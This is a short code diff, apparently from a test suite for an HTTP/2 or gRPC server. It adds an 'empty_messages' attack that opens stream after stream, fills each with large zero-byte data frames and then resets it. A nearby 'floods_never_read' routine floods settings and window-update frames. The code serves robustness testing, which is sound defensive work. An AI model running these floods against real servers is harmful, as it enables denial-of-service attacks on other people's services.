@@ -272,6 +272,17 @@ async def unfinished_messages(attacker: Attacker) -> None:
 
 
 @attack
+async def empty_messages(attacker: Attacker) -> None:
+    """3,270 of them in a frame, as fast as the windows let them through."""
+    await attacker.greet()
+    for stream_id in range(1, 2**31, 2):
+        await attacker.send(attacker.headers(stream_id, path="/toy.Toy/Total"))
+        for _ in range(64):
+            await attacker.send(frame(0, 0, stream_id, bytes(16_350)))
+        await attacker.send(frame(3, 0, stream_id, bytes(4)))
+
+
+@attack
 async def floods_never_read(attacker: Attacker) -> None:
     await attacker.greet()
     await attacker.send(frame(4, 0, 0, b"\0\x04\x7f\xff\xff\xff") + frame(8, 0, 0, b"\x7f\0\0\0"))
